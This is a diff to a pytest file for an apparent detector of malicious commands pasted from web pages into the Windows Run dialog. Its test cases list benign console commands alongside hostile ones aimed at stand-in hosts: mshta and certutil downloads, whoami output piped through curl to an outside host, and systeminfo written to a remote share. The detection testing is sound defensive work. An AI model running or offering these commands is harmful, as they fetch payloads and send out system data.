@@ -286,7 +286,7 @@ def test_an_editor_given_a_file_typed_is_a_users_but_from_a_web_page_a_command(
         ("mmc services.msc /computer=fs02 /s", Shape.TOOL),
         (r'dxdiag /t "%USERPROFILE%\Desktop\dx diag.txt"', Shape.TOOL),
         (r"explorer.exe /select,%USERPROFILE%\Downloads", Shape.TOOL),
-        ("cleanmgr /sageset:1", Shape.TOOL),
+        ("cleanmgr /sageset:1", Shape.PROGRAM),  # runbox.yaml `pages`: only opens its list
         ("mmc dsa.msc /domain=corp.example", Shape.TOOL),
         ("dssite.msc /server=dc01.corp.example", Shape.TOOL),
         # Disk Cleanup running the list the user saved; Office opening a document without
@@ -298,8 +298,8 @@ def test_an_editor_given_a_file_typed_is_a_users_but_from_a_web_page_a_command(
         (r"winword C:\Users\sam\letter.docx", Shape.TOOL),
         ("wmplayer /prefetch:1", Shape.TOOL),
         (r"powerpnt /s \\fileserver01\Sales\pitch.pptx", Shape.TOOL),
-        ("outlook /safe /nopreview", Shape.TOOL),
-        ("outlook.exe /safe /profile Contoso", Shape.TOOL),
+        ("outlook /safe /nopreview", Shape.PROGRAM),  # `pages`: a start-up mode, nothing loaded
+        ("outlook.exe /safe /profile Contoso", Shape.PROGRAM),
         (r"outlook /profile Contoso /altvba C:\Users\Public\x.otm", Shape.COMMAND),
         (r"mmc dsa.msc /domain=\\files.example.test\x", Shape.COMMAND),
         ("dsa.msc /domain=corp.example /domain=x.example", Shape.COMMAND),
@@ -382,6 +382,56 @@ def test_a_tools_switch_that_only_picks_its_page_is_a_program_name_whoever_wrote
         r"eventvwr /c:\\203.0.113.7\x",
     ):
         assert run_box_shape(text) is Shape.COMMAND, text
+        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+        assert from_page.level is Level.MALICIOUS, (text, from_page.rule_ids)
+
+
+@pytest.mark.parametrize(
+    ("text", "shape"),
+    [
+        ("cmd /k ipconfig /all", Shape.SHOW),
+        ("cmd.exe /K systeminfo /fo list", Shape.SHOW),
+        ("cmd /k driverquery /v /fo table", Shape.SHOW),
+        ("cmd /k certutil -user -store My", Shape.SHOW),
+        ("cmd /k ipconfig /all & nslookup intranet.example & tracert -d 192.0.2.1", Shape.SHOW),
+        ("cmd /k hostname && whoami /upn && ver", Shape.SHOW),
+        ("cmd /k gpupdate /force & gpresult /r", Shape.REFRESH),
+        ("cmd /k ipconfig /flushdns & ipconfig /all", Shape.SHOW),
+        # what fake support staff read out as proof, or anything that fetches, runs or sends
+        ("cmd /k netstat -ano", Shape.QUERY),
+        ("cmd /k ipconfig /displaydns", Shape.QUERY),
+        ("cmd /k ipconfig /all & netstat -ano", Shape.COMMAND),
+        ("cmd /k ipconfig /all & mshta https://cdn.example.test/v.hta", Shape.COMMAND),
+        ("cmd /k whoami /all | curl -F f=@- https://cdn.example.test/u", Shape.COMMAND),
+        (r"cmd /k systeminfo > \\203.0.113.7\drop\r.txt", Shape.COMMAND),
+        ("cmd /k nslookup stage.example.test 203.0.113.53", Shape.COMMAND),
+        ("cmd /k nslookup -q=txt stage.example.test", Shape.COMMAND),
+        ("cmd /k certutil -urlcache -split -f https://cdn.example.test/a a.exe", Shape.COMMAND),
+        ("cmd /k hostname & whoami & ver & getmac & systeminfo", Shape.COMMAND),
+        ("cmd /k driverquery /fo html", Shape.COMMAND),
+        ("cmd /c ipconfig /all & hostname", Shape.COMMAND),
+        (r"C:\Users\Public\cmd.exe /k ipconfig /all", Shape.COMMAND),
+    ],
+)
+def test_a_console_that_only_shows_this_computer(text: str, shape: Shape) -> None:
+    assert run_box_shape(text) is shape
+
+
+def test_a_console_that_only_shows_this_computer_is_quiet_from_a_page_and_the_rest_blocked(
+    engine: Engine,
+) -> None:
+    """IT wikis have people press Win+R and read out `cmd /k ipconfig /all`: from a page it is
+    no block (runbox.Shape.SHOW); a query that fake support staff read out as proof, or the same
+    console running anything else, stays one."""
+    for text in ("cmd /k ipconfig /all", "cleanmgr /sageset:1", "outlook.exe /safe /profile Ops"):
+        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+        assert from_page.level is Level.CLEAN, (text, from_page.rule_ids)
+    for text in (
+        "cmd /k netstat -ano",
+        "cmd /k ipconfig /all & mshta https://cdn.example.test/v.hta",
+        "cleanmgr /sagerun:1",
+        r"outlook /profile Ops /altvba C:\Users\Public\x.otm",
+    ):
         from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
         assert from_page.level is Level.MALICIOUS, (text, from_page.rule_ids)
 
